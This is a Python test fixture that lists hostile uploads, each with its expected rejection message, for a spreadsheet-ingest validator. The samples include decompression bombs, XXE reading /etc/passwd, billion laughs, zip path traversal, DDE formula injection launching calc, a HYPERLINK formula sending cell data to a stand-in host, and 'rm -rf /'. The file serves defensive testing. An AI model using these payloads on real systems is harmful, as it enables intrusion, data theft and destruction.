"""Files that mean harm, or that nobody could mean: each with its name and the words that refuse it."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
from tests.cast import OWN

HEAD = "企业名称,统一社会信用代码,从业人员\n"
ROW = f"甲（合成）,{OWN},1\n"
CELLS = (
    '<c r="A1" t="inlineStr"><is><t>企业名称</t></is></c><c r="B1" t="inlineStr"><is><t>从业人员</t></is></c>'
)
SECOND = '<c r="A2" t="inlineStr"><is><t>甲</t></is></c><c r="B2"><v>1</v></c>'
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@dataclass(frozen=True)
class Hostile:
    """One file, made when it is needed, and the words of its refusal."""

    about: str
    name: str
    make: Callable[[], bytes]
    said: str
    large: bool = False


def sheet(rows: str, *, after: str = "", doctype: str = "") -> str:
    return f"{XML}{doctype}<worksheet {MAIN}><sheetData>{rows}</sheetData>{after}</worksheet>"


def parts(worksheet: str = "") -> dict[str, str | bytes]:
    """Give the parts of a small workbook that is as it should be."""
    return {
        "[Content_Types].xml": f'{XML}<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" '
        'ContentType="application/xml"/></Types>',
        "_rels/.rels": f'{XML}<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{XML}<workbook {MAIN} xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{XML}<Relationships xmlns="{_PACKAGE}/relationships"><Relationship '
        f'Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": worksheet or sheet(f"<row>{CELLS}</row><row>{SECOND}</row>"),
    }


def packed(held: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in held.items():
            archive.writestr(name, content)
    return out.getvalue()


def book(worksheet: str = "", **more: str | bytes) -> bytes:
    return packed({**parts(worksheet), **more})


def with_part(name: str, content: str | bytes = "x") -> Callable[[], bytes]:
    return lambda: packed({**parts(), name: content})


def with_cell(cell: str) -> Callable[[], bytes]:
    return lambda: book(sheet(f"<row>{CELLS}</row><row>{SECOND}{cell}</row>"))


def text(*rows: str, head: str = HEAD) -> Callable[[], bytes]:
    return lambda: (head + "".join(rows)).encode("utf-8-sig")


def plain(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        archive.writestr("XL/Worksheets/Sheet1.xml", sheet(f"<row>{SECOND}</row>"))
    return out.getvalue()


def lying() -> bytes:
    """Say of a part of ten million bytes that it has a hundred."""
    content = b" " * 10_000_000 + sheet("").encode()
    whole = packed({**parts(), "xl/worksheets/sheet1.xml": content})
    return whole.replace(struct.pack("<L", len(content)), struct.pack("<L", 100))


def locked() -> bytes:
    whole = bytearray(book())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(mark, at + 1)
    return bytes(whole)


def odd_packing() -> bytes:
    whole = bytearray(book())
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] = 99
            at = whole.find(mark, at + 1)
    return bytes(whole)


def made_by_a_library() -> bytes:
    made, out = openpyxl.Workbook(), io.BytesIO()
    made.active.append(["企业名称", "统一社会信用代码", "从业人员"])
    made.active.append(["甲", OWN, "=SUM(1,2)"])
    made.save(out)
    return out.getvalue()


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
CORNERS = f'<row r="1">{CELLS}</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
MERGED = '<mergeCell ref="A2:A9"/>'
DEEP = "<a>" * 50_000 + "</a>" * 50_000
SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
POLYGLOT = b"%PDF-1.7\n<html><script>alert(1)</script></html>\n" + HEAD.encode()
PARQUET = b"PAR1" + b"\0" * 100 + b"PAR1"

ENDING = "后缀与内容不符"
KIND = "不接受"
NAME = "文件名含有不可见字符"
NO_TABLE = "不是表格"
DAMAGED = "工作簿"
FORMULA = "会被执行的公式"
LARGE = "解压后过大"
CELL_COUNT = "占用的单元格超过"
ENTITIES = "DOCTYPE"
ACTIVE = "宏、嵌入对象或外部链接"
NOTHING = "没有一列能识别"
EMPTY = "文件是空的"
SECRET = "密码保护"

HOSTILE: tuple[Hostile, ...] = (
    # Nothing, or another thing than its name says
    Hostile("no bytes", "a.csv", plain(b" "), "没有表格"),
    Hostile("one NUL", "a.csv", plain(b"\0"), NO_TABLE),
    Hostile("blanks", "a.csv", plain(b" \n \n\n"), "没有表格"),
    Hostile("a mark and nothing", "a.csv", plain(b"\xef\xbb\xbf"), "没有表格"),
    Hostile("a program", "a.csv", plain(b"MZ\x90\0\x03\0\0\0" + b"\0" * 4000), NO_TABLE),
    Hostile("a picture", "a.xlsx", plain(b"\x89PNG\r\n\x1a\n" + b"\0" * 900), NO_TABLE),
    Hostile("a PDF", "a.csv", plain(b"%PDF-1.7\n1 0 obj\n"), "这是 PDF"),
    Hostile("a PDF that is a page too", "a.csv", plain(POLYGLOT), "这是 PDF"),
    Hostile("a page", "a.csv", plain(b"<!DOCTYPE html><table><tr><td>x</td></tr></table>"), "网页"),
    Hostile("a page named workbook", "a.xlsx", plain(b"<html><table></table></html>"), "网页"),
    Hostile("a drawing with a script", "a.csv", plain(SCRIPT), "只有表头"),
    Hostile(
        "XML with an entity", "a.csv", plain(f"<?xml version='1.0'?>{EXTERNAL}<x>&e;</x>".encode()), "XML"
    ),
    Hostile("JSON", "a.csv", plain(b'{"a": 1}'), "JSON"),
    Hostile("a workbook named text", "a.csv", book, ENDING),
    Hostile("text named workbook", "a.xlsx", text(ROW), ENDING),
    Hostile("an old workbook", "a.xlsx", plain(OLD), ".xls"),
    Hostile("an old workbook by name", "a.xls", plain(OLD), KIND),
    Hostile("a binary workbook", "a.xlsx", with_part("xl/workbook.bin"), ".xlsb"),
    Hostile("an OpenDocument sheet", "a.xlsx", lambda: packed({"content.xml": "<x/>"}), "OpenDocument"),
    Hostile("a letter", "a.xlsx", lambda: packed({"word/document.xml": "<x/>"}), "压缩包"),
    Hostile("an archive", "a.xlsx", lambda: packed({"a.csv": HEAD + ROW}), "压缩包"),
    Hostile("a packed table", "a.csv", lambda: gzip.compress((HEAD + ROW).encode()), "压缩文件"),
    Hostile("a packed bomb", "a.csv", lambda: gzip.compress(b"a,b\n" * 4_000_000, 1), "压缩文件", large=True),
    Hostile("columns of another program", "a.csv", plain(PARQUET), ENDING),
    Hostile("columns of another program by name", "a.parquet", plain(PARQUET), KIND),
    Hostile("a macro workbook by name", "a.xlsm", book, KIND),
    Hostile("a program by name", "a.csv.exe", text(ROW), KIND),
    Hostile("a page by name", "a.php", text(ROW), KIND),
    Hostile("no ending", "a", text(ROW), KIND),
    Hostile("a name without end", "名" * 160 + ".csv", text(ROW), NAME),
    Hostile("a script", "a.csv", plain(b"#!/bin/sh\nrm -rf /\n"), NOTHING),
    Hostile("a virus that is none", "a.csv", plain(b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR\nx\n"), NOTHING),
    # Locked, broken, or not built as workbooks are
    Hostile("a password", "a.xlsx", plain(OLD + "EncryptedPackage".encode("utf-16-le")), SECRET),
    Hostile("a password on its parts", "a.xlsx", locked, SECRET),
    Hostile("half a workbook", "a.xlsx", lambda: book()[:600], "损坏"),
    Hostile("an unknown packing", "a.xlsx", odd_packing, "损坏"),
    Hostile(
        "a sheet that is not there",
        "a.xlsx",
        lambda: packed({name: part for name, part in parts().items() if "sheet1" not in name}),
        DAMAGED,
    ),
    Hostile("only a folder", "a.xlsx", lambda: packed({"xl/x.xml": "<x/>"}), DAMAGED),
    Hostile("broken XML", "a.xlsx", lambda: book("<worksheet><sheetData><row></sheetData>"), DAMAGED),
    Hostile("a sheet without rows", "a.xlsx", lambda: book(sheet("")), DAMAGED),
    Hostile("tags in tags", "a.xlsx", lambda: book(sheet(f"<row>{DEEP}</row>")), DAMAGED, large=True),
    Hostile("two parts of one name", "a.xlsx", twice, "结构异常"),
    Hostile(
        "three thousand parts",
        "a.xlsx",
        lambda: packed({**parts(), **{f"xl/x{number}.xml": "<x/>" for number in range(3000)}}),
        "结构异常",
        large=True,
    ),
    Hostile("a path outside", "a.xlsx", with_part("../../evil.xml"), "越界路径"),
    Hostile("a path from the root", "a.xlsx", with_part("/etc/cron.d/evil"), "越界路径"),
    # Bombs
    Hostile(
        "a bomb", "a.xlsx", with_part("xl/worksheets/sheet2.xml", b"\0" * 270_000_000), LARGE, large=True
    ),
    Hostile(
        "a bomb of words", "a.xlsx", with_part("xl/sharedStrings.xml", b" " * 101_000_000), LARGE, large=True
    ),
    Hostile("a part that lies", "a.xlsx", lying, "损坏", large=True),
    Hostile("seventeen thousand million cells", "a.xlsx", lambda: book(sheet(CORNERS)), CELL_COUNT),
    Hostile(
        "a row far down",
        "a.xlsx",
        lambda: book(sheet(f'<row>{CELLS}</row><row r="99999999"><c r="B99999999"/></row>')),
        CELL_COUNT,
    ),
    Hostile(
        "six million cells",
        "a.xlsx",
        lambda: book(sheet(f"<row>{CELLS}</row><row>{'<c/>' * 6_000_000}</row>")),
        CELL_COUNT,
        large=True,
    ),
    Hostile(
        "a hundred thousand merged cells",
        "a.xlsx",
        lambda: book(
            sheet(
                f"<row>{CELLS}</row><row>{SECOND}</row>",
                after="<mergeCells>" + MERGED * 100_000 + "</mergeCells>",
            )
        ),
        CELL_COUNT,
        large=True,
    ),
    Hostile("an endless line", "a.csv", plain(b"a" * 2_000_000), "过长"),
    Hostile("five thousand columns", "a.csv", text(head="企业名称" + ",x" * 5000 + "\n"), "超过 1000 列"),
    Hostile(
        "more than is taken",
        "a.csv",
        lambda: HEAD.encode() + b"a,b,c\n" * 11_300_000,
        "超过 64 MB",
        large=True,
    ),
    # Entities
    Hostile(
        "a file of the server in a sheet",
        "a.xlsx",
        lambda: book(sheet(f"<row>{CELLS}</row><row>{SECOND}</row>", doctype=EXTERNAL)),
        ENTITIES,
    ),
    Hostile(
        "a file of the server in words",
        "a.xlsx",
        with_part("xl/sharedStrings.xml", f"{XML}{EXTERNAL}<sst/>"),
        ENTITIES,
    ),
    Hostile("a billion laughs", "a.xlsx", with_part("xl/styles.xml", f"{XML}{LAUGHS}<x>&b;</x>"), ENTITIES),
    Hostile(
        "entities in small letters",
        "a.xlsx",
        with_part("docProps/app.xml", "<!doctype x [<!entity a 'b'>]><x/>"),
        ENTITIES,
    ),
    Hostile(
        "entities in other bytes",
        "a.xlsx",
        with_part("xl/styles.xml", (XML + EXTERNAL).encode("utf-16")),
        "编码异常",
    ),
    # Formulas and things that run
    Hostile("a command", "a.xlsx", with_cell("<c r=\"C2\"><f>cmd|'/c calc'!A0</f><v>0</v></c>"), FORMULA),
    Hostile(
        "a link", "a.xlsx", with_cell('<c><f>HYPERLINK("http://x.example/?"&amp;A2)</f><v>0</v></c>'), FORMULA
    ),
    Hostile(
        "a web service",
        "a.xlsx",
        with_cell('<c><f>_xlfn.WEBSERVICE("http://x.example")</f><v>0</v></c>'),
        FORMULA,
    ),
    Hostile("another workbook", "a.xlsx", with_cell("<c><f>[1]S!A1</f><v>0</v></c>"), FORMULA),
    Hostile("text that would run", "a.xlsx", with_cell('<c t="inlineStr"><is><t>=1+1</t></is></c>'), FORMULA),
    Hostile("a formula without its result", "a.xlsx", made_by_a_library, "没有保存计算结果"),
    Hostile("macros", "a.xlsx", with_part("xl/vbaProject.bin"), ACTIVE),
    Hostile("old macros", "a.xlsx", with_part("xl/macrosheets/sheet1.xml", "<x/>"), ACTIVE),
    Hostile("an object", "a.xlsx", with_part("xl/embeddings/oleObject1.bin"), ACTIVE),
    Hostile("an archive inside", "a.xlsx", with_part("xl/embeddings/42.zip", packed({"a": "b"})), ACTIVE),
    Hostile("a control", "a.xlsx", with_part("xl/activeX/activeX1.xml", "<x/>"), ACTIVE),
    Hostile("a link outside", "a.xlsx", with_part("xl/externalLinks/externalLink1.xml", "<x/>"), ACTIVE),
    Hostile("a command in text", "a.csv", text("=cmd|'/C calc'!A0,,1\n"), FORMULA),
    Hostile("a link in text", "a.csv", text('"=HYPERLINK(""http://x.example"",""x"")",,1\n'), FORMULA),
    Hostile("a sum by at", "a.csv", text("@SUM(1+1)*cmd|' /C calc'!A0,,1\n"), FORMULA),
    Hostile("a command by plus", "a.csv", text("甲,+cmd|' /C calc'!A0,1\n"), FORMULA),
    Hostile("a command by minus", "a.csv", text("甲,-cmd|' /C calc'!A0,1\n"), FORMULA),
    Hostile(
        "a command after a tab", "a.tsv", text("\t=cmd|'/C calc'!A0\n", head="企业名称\t从业人员\n"), FORMULA
    ),
    Hostile("a late command", "a.csv", text(ROW * 60_000, "乙,=1+1,2\n"), FORMULA, large=True),
    # Text that is no table
    Hostile("text with NUL", "a.csv", text("甲\0,,1\n"), NO_TABLE),
    Hostile("a quotation mark that never ends", "a.csv", text(f'"甲,{OWN},1\n' + ROW * 9), "引号没有配对"),
    Hostile("a header alone", "a.csv", text(), "只有表头"),
    Hostile("words of nobody", "a.csv", text("1,2,3\n", head="x,y,z\n"), "只有表头"),
    Hostile("noise", "a.csv", plain(bytes(range(1, 256)) * 40), ""),
)
